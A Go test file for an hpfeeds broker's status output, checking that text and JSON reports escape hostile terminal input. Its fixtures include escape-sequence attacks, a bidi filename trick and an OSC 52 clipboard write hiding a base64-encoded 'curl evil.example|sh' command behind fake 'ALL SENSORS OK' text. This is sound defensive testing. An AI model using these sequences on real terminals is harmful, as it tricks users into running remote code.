package status_test

import (
	"encoding/json"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/hpfeeds-go/hpfeeds/broker"
	"github.com/hpfeeds-go/hpfeeds/status"
)

// What an attacker plants in a text a terminal shows: clear screen and
// home, an OSC 52 clipboard write followed by fake text, conceal, cursor
// up, a C1 CSI, a bidi override, invalid UTF-8 and a tab that would shift
// columns.
var hostile = []string{
	"\x1b[2J\x1b[H",
	"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07ALL SENSORS OK",
	"\x1b[8mhidden\x1b[5A",
	"\u009b2J",
	"evil\u202etxt.exe",
	"\xff\xfe",
	"a\tb\rc",
}

// termUnsafe returns the first character of out a terminal would act on
// rather than print: a control character but newline, invalid UTF-8, or a
// format character (bidi overrides and the like).
func termUnsafe(out string) (rune, int, bool) {
	for i := 0; i < len(out); {
		r, size := utf8.DecodeRuneInString(out[i:])
		if r != '\n' && (size == 1 && r == utf8.RuneError || unicode.IsControl(r) || unicode.Is(unicode.Cf, r)) {
			return r, i, true
		}
		i += size
	}
	return 0, 0, false
}

// Every text in the tables, from the store (idents, owners, channels) or
// from clients (a disconnect reason quoting a refused channel or a spoofed
// ident), reaches the terminal escaped.
func TestWriteTextEscapes(t *testing.T) {
	now := time.Now()
	for _, h := range hostile {
		r := &status.Report{
			Identz: &status.Identz{Now: now, Idents: []broker.IdentInfo{{
				Ident: "i" + h, Owner: "o" + h, LastAddr: h, LastLogin: now, Connections: 1,
				LastDisconnect: now, LastReason: "Authkey not allowed to sub here. ident=i, chan=" + h,
			}}},
			Chanz: &status.Chanz{Now: now, Channels: []broker.ChannelInfo{{Name: "c" + h}}},
			Connz: &status.Connz{Now: now, Total: 1, Connections: []broker.ConnInfo{{
				ID: 1, Ident: "i" + h, Addr: h, Endpoint: "tcp:" + h, Since: now, Subscriptions: []string{"s" + h, "ok"},
			}}},
		}
		var b strings.Builder
		if err := status.WriteText(&b, r); err != nil {
			t.Fatal(err)
		}
		out := b.String()
		if c, i, bad := termUnsafe(out); bad {
			t.Errorf("%q: the output holds %U at %d:\n%s", h, c, i, out)
		}
		if strings.Count(out, "\n") != 11 {
			t.Errorf("%q: %d lines, want 11:\n%s", h, strings.Count(out, "\n"), out)
		}
		for _, want := range []string{`"i`, `"o`, `"c`, `"s`, `,ok`} {
			if !strings.Contains(out, want) {
				t.Errorf("%q: no %s in:\n%s", h, want, out)
			}
		}
	}
}

// Printable text, non-ASCII included, is shown as it is; text that starts
// with a quote is quoted, not to pass for an escaped one.
func TestWriteTextPlain(t *testing.T) {
	now := time.Now()
	r := &status.Report{
		Identz: &status.Identz{Now: now, Idents: []broker.IdentInfo{{Ident: "capteur-é", Owner: `"x"`, LastLogin: now}}},
		Chanz:  &status.Chanz{Now: now},
		Connz:  &status.Connz{Now: now},
	}
	var b strings.Builder
	if err := status.WriteText(&b, r); err != nil {
		t.Fatal(err)
	}
	if out := b.String(); !strings.Contains(out, "\ncapteur-é  ") || !strings.Contains(out, `"\"x\""`) {
		t.Errorf("got:\n%s", out)
	}
}

// With --retain, a line says how the retained store fares, loud when it
// refused a batch in the last minute; without, none.
func TestWriteTextRetainStore(t *testing.T) {
	now := time.Now()
	for _, c := range []struct {
		store *broker.RetainStoreInfo
		want  string
	}{
		{nil, ""},
		{&broker.RetainStoreInfo{}, "\nRETAINED STORE ok: 0 batches refused\n"},
		{&broker.RetainStoreInfo{Failures: 3, LastFailure: now.Add(-5 * time.Second), LastError: "nats: timeout waiting for ack", Failing: true},
			"\nRETAINED STORE FAILING: 3 batches refused, the last one 5s ago: nats: timeout waiting for ack\n"},
		{&broker.RetainStoreInfo{Failures: 3, LastFailure: now.Add(-2 * time.Minute), LastError: "nats: timeout waiting for ack", Restarts: 1},
			"\nRETAINED STORE ok: 3 batches refused, the last one 2m ago: nats: timeout waiting for ack; JetStream restarts after a write error: 1\n"},
	} {
		r := &status.Report{Identz: &status.Identz{Now: now}, Chanz: &status.Chanz{Now: now, RetainStore: c.store}, Connz: &status.Connz{Now: now}}
		var b strings.Builder
		if err := status.WriteText(&b, r); err != nil {
			t.Fatal(err)
		}
		if out := b.String(); c.want == "" && strings.Contains(out, "RETAINED") || c.want != "" && !strings.Contains(out, c.want) {
			t.Errorf("store %+v: got:\n%s\nwant %q", c.store, out, c.want)
		}
	}
}

// --json escapes what encoding/json leaves (C1 controls, bidi overrides)
// and still reads back as the same text.
func TestWriteJSONEscapes(t *testing.T) {
	now := time.Now().UTC()
	for _, h := range append(hostile, "tag󠁁") {
		if !utf8.ValidString(h) {
			continue // JSON cannot carry it: encoding/json writes U+FFFD
		}
		r := &status.Report{
			Identz: &status.Identz{Now: now, Idents: []broker.IdentInfo{{Ident: "i" + h, LastReason: "chan=" + h}}},
			Chanz:  &status.Chanz{Now: now, Channels: []broker.ChannelInfo{{Name: "c" + h}}},
			Connz:  &status.Connz{Now: now},
		}
		var b strings.Builder
		if err := status.WriteJSON(&b, r); err != nil {
			t.Fatal(err)
		}
		out := b.String()
		if c, i, bad := termUnsafe(out); bad {
			t.Errorf("%q: the output holds %U at %d:\n%s", h, c, i, out)
		}
		var back status.Report
		if err := json.Unmarshal([]byte(out), &back); err != nil {
			t.Fatalf("%q: %v in %s", h, err, out)
		}
		if in := back.Identz.Idents[0]; in.Ident != "i"+h || in.LastReason != "chan="+h || back.Chanz.Channels[0].Name != "c"+h {
			t.Errorf("%q: read back %+v", h, back)
		}
	}
}
